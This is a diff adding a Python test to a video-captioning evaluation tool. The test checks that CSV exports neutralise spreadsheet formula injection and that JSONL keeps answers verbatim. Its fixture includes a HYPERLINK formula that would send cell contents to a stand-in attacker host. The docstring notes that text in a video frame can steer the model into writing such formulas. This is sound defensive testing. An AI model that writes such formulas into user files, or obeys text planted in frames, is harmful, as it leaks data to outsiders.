@@ -499,3 +499,21 @@ def test_the_report_plays_a_video_with_its_answers_as_subtitles(tiny_run: Path, 
     answer_at_2s = sample[sample.timestamp_s == 2.0].iloc[0]
     assert seen["active"] == [expected_text(answer_at_2s)]
 
+
+def test_csv_cells_a_spreadsheet_would_run_are_inert_and_jsonl_keeps_the_text(tmp_path: Path) -> None:
+    """Issue 23, point 14: a frame's text can steer the model into writing a formula."""
+    answers = ['=HYPERLINK("http://evil.example/?"&A1,"click")', "+1+2", "-2+3", "@SUM(A1:A9)", "\tx", "\rx",
+               "a = b", "3 - 2"]
+    rows = [result_row("v", 25 * i, answer=a, prompt_id=f"p{i}", prompt=f"=cmd{i}") for i, a in enumerate(answers)]
+    write_results(tmp_path / "out", rows)
+
+    done = export(tmp_path / "out", ["csv", "jsonl", "vtt"])
+
+    # Bytes, not read_text: its newline translation would turn the answer's CR into LF.
+    table = list(csv.DictReader(io.StringIO((done.folder / "captions.csv").read_bytes().decode("utf-8"), newline="")))
+    assert [r["answer"] for r in table] == ["'" + a for a in answers[:6]] + answers[6:]
+    assert {r["prompt"][:2] for r in table} == {"'="}
+    index = list(csv.DictReader(io.StringIO((done.folder / "tracks.csv").read_text(encoding="utf-8"))))
+    assert all(r["prompt"].startswith("'=") for r in index)
+    records = [json.loads(x) for x in (done.folder / "captions.jsonl").read_text(encoding="utf-8").splitlines()]
+    assert [r["answer"] for r in records] == answers
